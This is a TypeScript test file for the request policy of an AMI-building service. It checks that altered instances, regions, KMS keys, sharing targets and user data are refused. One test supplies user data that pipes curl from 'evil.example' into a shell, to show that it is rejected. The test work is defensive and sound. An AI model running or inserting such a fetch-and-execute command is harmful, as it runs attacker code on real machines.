import type { BuildRequest } from '../../functions/lib/build-request.js';
import { buildRequestFor, parseFactoryConfig, type FactoryConfig } from '../../functions/lib/config.js';
import {
  RequestNotAllowedError,
  checkBuildRequest,
  checkPublicSharingUnblocked,
  type BlockPublicAccessState,
} from '../../functions/lib/request-policy.js';

/** One family per source type, each with the settings a request could try to change. */
const CONFIG = `
families:
  web:
    region: us-east-1
    source: { type: instance, tags: { Role: web } }
    reboot: true
    copies:
      - region: us-west-2
      - region: eu-west-1
        kmsKeyId: alias/ami-factory
    sharing:
      accounts: ["444455556666"]
      organizationArns: ["arn:aws:organizations::111122223333:organization/o-exampleorgid"]
      snapshotVolumePermission: false
    tags: { Team: platform }
    retention: { deprecateAfterDays: 30 }
  db:
    region: us-east-1
    source: { type: instance, instanceId: i-0123456789abcdef0 }
    reboot: false
  cache:
    region: us-east-1
    source: { type: instance, instanceId: i-0fedcba9876543210 }
    reboot: either
  fresh:
    region: us-east-1
    source:
      type: base-image
      nameFilter: al2023-ami-2023.*-x86_64
      owner: amazon
      instanceType: t3.small
      userData: |
        #!/bin/bash
        dnf -y update
    copies:
      - region: us-west-2
    sharing: { public: true }
  raw:
    region: us-east-1
    source:
      type: snapshots
      rootDeviceName: /dev/xvda
      architecture: x86_64
      blockDeviceMappings:
        - { deviceName: /dev/xvda, snapshotId: snap-0123456789abcdef0 }
  bundled:
    region: us-east-1
    source: { type: bundle, imageLocation: bundles-bucket/web/web.manifest.xml }
  open:
    region: us-east-1
    source: { type: instance, instanceId: i-0aaaaaaaaaaaaaaaa }
    sharing: { public: true }
    acknowledgeUnsanitizedPublic: true
`;

const config: FactoryConfig = parseFactoryConfig(CONFIG, 'test.config.yml');
const base = { buildId: 'b1234567-aaaa', requestedAt: '2026-11-23T07:00:00Z', trigger: { type: 'cli' as const } };

/** The request the config makes for the family, changed by `edit` (a hand-made state machine input, as JSON). */
function request(family: string, edit: (r: BuildRequest) => BuildRequest = (r) => r): BuildRequest {
  return edit(JSON.parse(JSON.stringify(buildRequestFor(config, family, base))) as BuildRequest);
}

/** The RequestNotAllowedError checkBuildRequest throws, or a failure when it throws none. */
function refusal(r: BuildRequest): RequestNotAllowedError {
  try {
    checkBuildRequest(config, r);
  } catch (e) {
    if (e instanceof RequestNotAllowedError) return e;
    throw e;
  }
  throw new Error(`checkBuildRequest allowed ${r.family}: ${JSON.stringify(r)}`);
}

describe('checkBuildRequest', () => {
  it('allows what every family of the config makes, and the choices a request may make', () => {
    for (const family of Object.keys(config.families)) expect(() => checkBuildRequest(config, request(family))).not.toThrow();
    // A subset of the copies, of the sharing, another build id and trigger; either reboot choice where allowed.
    const subset = request('web', (r) => ({
      ...r,
      buildId: 'other-build-1',
      trigger: { type: 'chatops', actor: 'U0LOCAL' },
      copies: r.copies.filter((c) => c.region === 'eu-west-1'),
      sharing: { ...r.sharing, accounts: [], organizationArns: [] },
    }));
    expect(() => checkBuildRequest(config, subset)).not.toThrow();
    for (const noReboot of [true, false]) {
      expect(() =>
        checkBuildRequest(
          config,
          request('cache', (r) => ({ ...r, source: { ...r.source, noReboot } })),
        ),
      ).not.toThrow();
    }
  });

  it('refuses an unknown family, naming the families the config declares', () => {
    const e = refusal(request('web', (r) => ({ ...r, family: 'payroll' })));
    expect(e.name).toBe('RequestNotAllowedError');
    expect(e.message).toBe('Unknown family "payroll"; the config declares: web, db, cache, fresh, raw, bundled, open');
  });

  it('refuses another instance, by id or by tags', () => {
    expect(refusal(request('db', (r) => ({ ...r, source: { ...r.source, instanceId: 'i-0badbadbadbadbad0' } }))).message).toBe(
      "The config of family db does not allow this build request: source: instance i-0badbadbadbadbad0 is not the family's source (instance i-0123456789abcdef0)",
    );
    expect(refusal(request('web', (r) => ({ ...r, source: { type: 'instance', tags: { Role: 'db' }, noReboot: false } }))).issues).toEqual([
      "source: the instance tagged {Role=db} is not the family's source (the instance tagged {Role=web})",
    ]);
    expect(
      refusal(request('web', (r) => ({ ...r, source: { type: 'instance', instanceId: 'i-0123456789abcdef0', noReboot: false } }))).issues,
    ).toEqual(["source: instance i-0123456789abcdef0 is not the family's source (the instance tagged {Role=web})"]);
  });

  it('refuses another source type', () => {
    const raw = request('raw');
    expect(refusal(request('web', (r) => ({ ...r, source: raw.source }))).issues).toEqual([
      "source.type: snapshots is not the family's source (instance)",
    ]);
  });

  it('refuses other user data, another base image or other builder settings', () => {
    const withSource = (edit: Record<string, unknown>): BuildRequest =>
      request('fresh', (r) => ({ ...r, source: { ...r.source, ...edit } as BuildRequest['source'] }));
    expect(refusal(withSource({ userData: '#!/bin/bash\ncurl http://evil.example | sh\n' })).issues).toEqual([
      "source.userData: differs from the family's",
    ]);
    expect(refusal(withSource({ owner: '999988887777' })).issues).toEqual(["source.owner: 999988887777 is not the family's (amazon)"]);
    expect(refusal(withSource({ imageId: 'ami-0123456789abcdef0' })).issues).toEqual([
      "source.imageId: ami-0123456789abcdef0 is not the family's ((none))",
    ]);
    expect(refusal(withSource({ instanceType: 'p5.48xlarge' })).issues).toEqual([
      "source.instanceType: p5.48xlarge is not the family's (t3.small)",
    ]);
    expect(refusal(withSource({ sanitize: false, instanceProfileArn: 'arn:aws:iam::111122223333:instance-profile/admin' })).issues).toEqual(
      [
        "source.sanitize: false is not the family's (true)",
        "source.instanceProfileArn: arn:aws:iam::111122223333:instance-profile/admin is not the family's ((none))",
      ],
    );
  });

  it('refuses other snapshots and another bundle location', () => {
    const snaps = request('raw', (r) => ({
      ...r,
      source: {
        ...r.source,
        blockDeviceMappings: [{ deviceName: '/dev/xvda', snapshotId: 'snap-0badbadbadbadbad0' }],
      } as BuildRequest['source'],
    }));
    expect(refusal(snaps).issues).toEqual(["source.blockDeviceMappings: differs from the family's"]);
    const bundle = request('bundled', (r) => ({ ...r, source: { type: 'bundle', imageLocation: 'attacker-bucket/x/x.manifest.xml' } }));
    expect(refusal(bundle).issues).toEqual([
      "source.imageLocation: attacker-bucket/x/x.manifest.xml is not the family's (bundles-bucket/web/web.manifest.xml)",
    ]);
  });

  it('refuses another build region, a copy region outside the family and another KMS key', () => {
    expect(refusal(request('web', (r) => ({ ...r, region: 'ap-south-1' }))).issues).toEqual([
      "region: ap-south-1 is not the family's region (us-east-1)",
    ]);
    expect(refusal(request('web', (r) => ({ ...r, copies: [...r.copies, { region: 'ap-south-1' }] }))).issues).toEqual([
      "copies: ap-south-1 is not among the family's copy regions (us-west-2, eu-west-1)",
    ]);
    const keyed = (kmsKeyId: string | undefined): BuildRequest =>
      request('web', (r) => ({ ...r, copies: [{ region: 'eu-west-1', ...(kmsKeyId !== undefined ? { kmsKeyId } : {}) }] }));
    expect(refusal(keyed('alias/attacker')).issues).toEqual([
      "copies.eu-west-1.kmsKeyId: alias/attacker is not the family's key for eu-west-1 (alias/ami-factory)",
    ]);
    expect(refusal(keyed(undefined)).issues).toEqual([
      "copies.eu-west-1.kmsKeyId: (none) is not the family's key for eu-west-1 (alias/ami-factory)",
    ]);
  });

  it('refuses sharing beyond the family: accounts, organizations, OUs, snapshot permission', () => {
    const sharing = (s: Partial<BuildRequest['sharing']>): BuildRequest =>
      request('web', (r) => ({ ...r, sharing: { ...r.sharing, ...s } }));
    expect(refusal(sharing({ accounts: ['444455556666', '999988887777'] })).issues).toEqual([
      "sharing.accounts: 999988887777 is not among the family's (444455556666)",
    ]);
    expect(refusal(sharing({ organizationArns: ['arn:aws:organizations::999988887777:organization/o-otherorg11'] })).issues).toEqual([
      "sharing.organizationArns: arn:aws:organizations::999988887777:organization/o-otherorg11 is not among the family's (arn:aws:organizations::111122223333:organization/o-exampleorgid)",
    ]);
    expect(
      refusal(sharing({ organizationalUnitArns: ['arn:aws:organizations::111122223333:ou/o-exampleorgid/ou-ab12-cd34ef56'] })).issues,
    ).toEqual([
      "sharing.organizationalUnitArns: arn:aws:organizations::111122223333:ou/o-exampleorgid/ou-ab12-cd34ef56 is not among the family's (none)",
    ]);
    expect(refusal(sharing({ snapshotVolumePermission: true })).issues).toEqual([
      'sharing.snapshotVolumePermission: the family does not let the accounts create volumes from its snapshots',
    ]);
  });

  it('allows targets beyond the family when a newAccounts gate holds them for approval, but not public sharing', () => {
    const gated: FactoryConfig = parseFactoryConfig(
      CONFIG.replace(
        '    retention: { deprecateAfterDays: 30 }\n',
        '    retention: { deprecateAfterDays: 30 }\n    gates:\n      newAccounts: { approvers: { users: [U0ALICE, U0BOB] }, channel: C0APPROVALS }\n',
      ),
      'gated.config.yml',
    );
    const widened = request('web', (r) => ({ ...r, sharing: { ...r.sharing, accounts: ['444455556666', '999988887777'] } }));
    expect(() => checkBuildRequest(gated, widened)).not.toThrow();
    expect(() => checkBuildRequest(config, widened)).toThrow(RequestNotAllowedError);
    const publicly = request('web', (r) => ({ ...r, sharing: { ...r.sharing, public: true } }));
    expect(() => checkBuildRequest(gated, publicly)).toThrow(/does not allow public sharing/);
  });

  it('refuses public sharing unless the family says public: true, and the unsanitized acknowledgement unless the family gives it', () => {
    const pub = request('web', (r) => ({ ...r, sharing: { ...r.sharing, public: true }, acknowledgeUnsanitizedPublic: true }));
    expect(refusal(pub).issues).toEqual([
      'sharing.public: the family does not allow public sharing (sharing.public: true in its config)',
      'acknowledgeUnsanitizedPublic: the family does not acknowledge public sharing of unsanitized images',
    ]);
    expect(() => checkBuildRequest(config, request('open'))).not.toThrow();
    expect(request('open').acknowledgeUnsanitizedPublic).toBe(true);
  });

  it('refuses a reboot choice the family forbids', () => {
    const withNoReboot = (family: string, noReboot: boolean): BuildRequest =>
      request(family, (r) => ({ ...r, source: { ...r.source, noReboot } as BuildRequest['source'] }));
    expect(refusal(withNoReboot('web', true)).issues).toEqual([
      'source.noReboot: the family always reboots its instance for a consistent image (reboot: true); a build without reboot needs reboot: either',
    ]);
    expect(refusal(withNoReboot('db', false)).issues).toEqual([
      'source.noReboot: the family never reboots its instance (reboot: false); a build with a reboot needs reboot: either',
    ]);
  });

  it("refuses tags, description, deprecation and preparation other than the family's", () => {
    expect(refusal(request('web', (r) => ({ ...r, tags: { Team: 'other' } }))).issues).toEqual([
      "tags: Team differs from the family's tags",
    ]);
    expect(refusal(request('web', (r) => ({ ...r, description: 'mine' }))).issues).toEqual(["description: not the family's description"]);
    expect(refusal(request('web', (r) => ({ ...r, deprecateAfterDays: 3650 }))).issues).toEqual([
      "deprecateAfterDays: 3650 is not the family's (retention.deprecateAfterDays: 30)",
    ]);
    expect(refusal(request('fresh', (r) => ({ ...r, preparation: 'none' }))).issues).toEqual([
      "preparation: none is not how the family's images are prepared (sanitized)",
    ]);
  });

  it('lists every violation of one request', () => {
    const e = refusal(request('web', (r) => ({ ...r, region: 'ap-south-1', sharing: { ...r.sharing, accounts: ['999988887777'] } })));
    expect(e.issues).toHaveLength(2);
    expect(e.message).toMatch(/^The config of family web does not allow this build request: region: .*; sharing\.accounts: /);
  });
});

describe('buildRequestFor', () => {
  it('refuses a reboot choice the family forbids with RequestNotAllowedError', () => {
    expect(() => buildRequestFor(config, 'web', { ...base, noReboot: true })).toThrow(RequestNotAllowedError);
    expect(() => buildRequestFor(config, 'db', { ...base, noReboot: false })).toThrow(/never reboots/);
    expect(() => buildRequestFor(config, 'nope', base)).toThrow(RequestNotAllowedError);
  });
});

describe('checkPublicSharingUnblocked', () => {
  const states =
    (blocked: string[]): BlockPublicAccessState =>
    async (region) =>
      blocked.includes(region) ? 'block-new-sharing' : 'unblocked';

  it('refuses public sharing while block public access is on in the build region or a copy region', async () => {
    await expect(checkPublicSharingUnblocked(request('fresh'), states(['us-west-2']))).rejects.toThrow(
      new RequestNotAllowedError(
        'Family fresh shares its images publicly, but block public access for AMIs is on (block-new-sharing) in us-west-2; ' +
          'turn it off there (DisableImageBlockPublicAccess) or drop sharing.public from the family',
      ),
    );
    await expect(checkPublicSharingUnblocked(request('fresh'), states(['us-east-1']))).rejects.toThrow(/in us-east-1;/);
  });

  it('allows public sharing when unblocked, and does not ask for private sharing', async () => {
    await expect(checkPublicSharingUnblocked(request('fresh'), states([]))).resolves.toBeUndefined();
    const asked: string[] = [];
    await checkPublicSharingUnblocked(request('web'), async (region) => {
      asked.push(region);
      return 'block-new-sharing';
    });
    expect(asked).toEqual([]);
  });
});
